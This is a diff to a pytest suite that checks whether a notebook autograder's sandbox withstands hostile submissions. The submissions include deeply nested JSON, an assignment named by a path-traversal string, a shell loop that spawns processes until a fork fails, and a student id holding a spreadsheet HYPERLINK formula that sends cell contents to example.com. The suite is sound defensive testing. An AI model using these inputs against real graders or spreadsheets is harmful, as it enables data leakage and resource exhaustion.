@@ -2,17 +2,21 @@
 than its honest work deserves, none changes a file outside its sandbox, grades.csv stays as the
 grader wrote it, and no process or temporary folder of a sandbox survives.
 
-Also: what a sandbox can see and do (tools/sandbox.py), and that grading refuses to run
-unsandboxed unless told to. One folder of 13 submissions of the gradient-flow assignment, graded
-two at a time: about a minute and a half on a 2-core machine.
+Also: files that are not notebooks as the grader expects them (nested 100 000 deep, cells whose
+source is numbers, metadata naming an assignment by a path), what a sandbox can see and do
+(tools/sandbox.py), and that grading refuses to run unsandboxed unless told to. One folder of 20
+files of the gradient-flow assignment, graded two at a time: about two minutes on a 2-core
+machine.
 """
 
 from __future__ import annotations
 
 import hashlib
 import importlib.util
+import json
 import os
 import re
+import subprocess
 import sys
 import time
 from pathlib import Path
@@ -76,6 +80,24 @@ def build(case: dict, bundle: Path, folder: Path, canary: Path) -> Path:
     return path
 
 
+FORMULA_ID = ' =HYPERLINK("http://example.com/?"&A1,"my grade")'  # a student id
+
+
+def malformed(bundle: Path, folder: Path) -> None:
+    """Files a grader must turn into one row each, never a stopped folder or a run elsewhere."""
+    (folder / "nested_deep.ipynb").write_text(
+        '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8"
+    )
+    data = json.loads((bundle / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))
+    data["metadata"]["course"] = {"assignment": ASSIGNMENT, "student": FORMULA_ID}
+    data["cells"].append({"cell_type": "code", "source": [1, 2], "metadata": {}, "outputs": []})
+    data["cells"].append({"cell_type": "markdown", "source": {"not": "text"}, "metadata": {}})
+    (folder / "odd_sources.ipynb").write_text(json.dumps(data), encoding="utf-8")
+    data = json.loads((bundle / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))
+    data["metadata"]["course"] = {"assignment": "../../../../tmp/submissions/grading"}
+    (folder / "assignment_by_path.ipynb").write_text(json.dumps(data), encoding="utf-8")
+
+
 def digest(path: Path) -> str | None:
     return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None
 
@@ -114,17 +136,20 @@ def graded(tmp_path_factory):
         nbformat.read(bundle / "autograder" / f"{ASSIGNMENT}.ipynb", as_version=4),
         folder / "solution.ipynb",
     )
+    malformed(bundle, folder)
     watched = [canary, ROOT / "README.md", ROOT / "book" / "assignments" / f"{ASSIGNMENT}.md"]
     watched += sorted(folder.glob("*.ipynb")) + sorted(bundle.rglob("*.*"))
     before = {path: digest(path) for path in watched}
     stages = stage_folders()
     messages: list[str] = []
     start = time.monotonic()
-    grading.grade_folder(
-        folder,
-        settings=grading.Settings(timeout=30, cell_timeout=10, jobs=2, secret=SECRET),
-        echo=messages.append,
-    )
+    with pytest.MonkeyPatch.context() as patch:  # as `make grade COURSE_SECRET=...` runs
+        patch.setenv("COURSE_SECRET", SECRET)
+        grading.grade_folder(
+            folder,
+            settings=grading.Settings(timeout=30, cell_timeout=10, jobs=2, secret=SECRET),
+            echo=messages.append,
+        )
     seconds = time.monotonic() - start
     written = digest(folder / "grades.csv")
     time.sleep(3)  # a detached process would have rewritten grades.csv by now
@@ -141,11 +166,15 @@ def graded(tmp_path_factory):
     }
 
 
-def test_every_hostile_submission_scores_what_its_honest_work_deserves(graded):
+def grade_rows(folder: Path) -> dict[str, dict]:
     import csv
 
-    with open(graded["folder"] / "grades.csv", newline="", encoding="utf-8") as f:
-        rows = {row["submission"]: row for row in csv.DictReader(f)}
+    with open(folder / "grades.csv", newline="", encoding="utf-8") as f:
+        return {row["submission"]: row for row in csv.DictReader(f)}
+
+
+def test_every_hostile_submission_scores_what_its_honest_work_deserves(graded):
+    rows = grade_rows(graded["folder"])
     points = graded["points"]
     possible = sum(points.values())
     assert float(rows["solution.ipynb"]["score"]) == possible
@@ -201,6 +230,39 @@ def test_feedback_and_logs_never_show_the_hidden_tests(graded):
     assert "the notebook's own output" not in feedback  # only the instructor's log has it
 
 
+def test_the_course_secret_never_reaches_a_sandbox(graded):
+    for folder in ("feedback", "grading-logs"):
+        for path in (graded["folder"] / folder).glob("*.txt"):
+            assert SECRET not in path.read_text(encoding="utf-8"), path.name
+    feedback = (graded["folder"] / "feedback" / "steal_secret.txt").read_text(encoding="utf-8")
+    assert "RuntimeError: secret: []" in feedback  # it looked everywhere and found nothing
+
+
+def test_forged_result_records_neither_stop_nor_fool_the_grader(graded):
+    row = grade_rows(graded["folder"])["forged_results.ipynb"]
+    assert (row["score"], row["status"]) == ("0", "graded")
+    for name in ("feedback", "grading-logs"):
+        text = (graded["folder"] / name / "forged_results.txt").read_text(encoding="utf-8")
+        assert not re.search(r"^q1: 3 / 3", text, re.M)  # the fake score stays inside its line
+        assert "raised: boom q1: 3 / 3 hidden test" in text
+
+
+def test_a_sandbox_can_fill_only_its_own_capped_folders(graded):
+    log = (graded["folder"] / "grading-logs" / "fill_tmpfs.txt").read_text(encoding="utf-8")
+    written = int(re.search(r"fill_tmpfs wrote (\d+) MB", log).group(1))
+    limits = sandbox.Limits()
+    assert 0 < written <= (limits.tmp_bytes + limits.shm_bytes) // 2**20
+
+
+def test_malformed_files_are_one_row_each(graded):
+    rows = grade_rows(graded["folder"])
+    assert rows["nested_deep.ipynb"]["status"].startswith("not a notebook")
+    assert rows["assignment_by_path.ipynb"]["status"].startswith("a notebook of another")
+    odd = rows["odd_sources.ipynb"]
+    assert (odd["score"], odd["status"]) == ("0", "graded")
+    assert odd["student"] == "'" + FORMULA_ID  # a formula, even after spaces, is quoted
+
+
 def test_forbidden_functions_raise_under_an_alias(graded):
     log = (graded["folder"] / "grading-logs" / "forbidden_alias.txt").read_text(encoding="utf-8")
     assert "not allowed in this question: lib.flow.gradient_descent" in log
@@ -251,6 +313,42 @@ def test_a_sandbox_has_no_network_no_repository_and_its_own_limits():
     if os.geteuid() == 0:
         uid = int(re.search(r"uid (\d+)", out).group(1))
         assert sandbox.UID_BASE <= uid < sandbox.UID_BASE + sandbox.UID_RANGE
+
+
+def test_a_sandbox_without_a_uid_of_its_own_still_limits_its_processes():
+    """As a non-root instructor grades (no uid per sandbox): a shell starts sleeps until a fork
+    fails, printing a count after each; the count stays below the sandbox's process limit."""
+    if reason := sandbox.missing():
+        pytest.skip(reason)
+    if not sandbox.nproc_per_namespace():
+        pytest.skip("Linux before 5.14 counts processes per uid, not per namespace")
+    limits = sandbox.Limits(wall_seconds=30)
+    script = "for i in $(seq 300); do sleep 5 & echo $i; done"
+    line, _ = sandbox.command(["/bin/sh", "-c", script], [], limits, uid=None)
+    if os.geteuid() == 0:  # root's own processes are exempt from the limit: act as another uid
+        uid = sandbox.UID_BASE - 2
+        line = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", *line]
+    result = subprocess.run(
+        line, capture_output=True, text=True, timeout=60, cwd="/", env=sandbox.host_environment()
+    )
+    started = [int(n) for n in result.stdout.split()]
+    assert started and max(started) < limits.processes, result.stderr[-500:]
+
+
+def test_grader_refuses_symlinked_outputs_and_assignments_named_by_path(tmp_path):
+    (tmp_path / "a.ipynb").write_text("{}", encoding="utf-8")
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "feedback").symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(ValueError, match="symbolic link"):
+        grading.grade_folder(tmp_path, assignment=ASSIGNMENT, echo=lambda *_: None)
+    with pytest.raises(ValueError, match="no assignment"):
+        grading.load(f"../assignments/{ASSIGNMENT}")
+    named = grading.Submission(tmp_path / "b.ipynb", {"cells": [], "metadata": {}})
+    named.notebook["metadata"]["course"] = {"assignment": "../../tests/hostile/x"}
+    with pytest.raises(ValueError, match="cannot tell"):
+        grading._which_assignment([named], None)
+    for formula in ("=1+1", " =1+1", "\t@SUM(A1)", "\uff1d1+1", "-2+3"):
+        assert grading._safe_name(formula).startswith("'")
 
 
 def test_grading_refuses_to_run_unsandboxed_unless_told(tmp_path, monkeypatch):
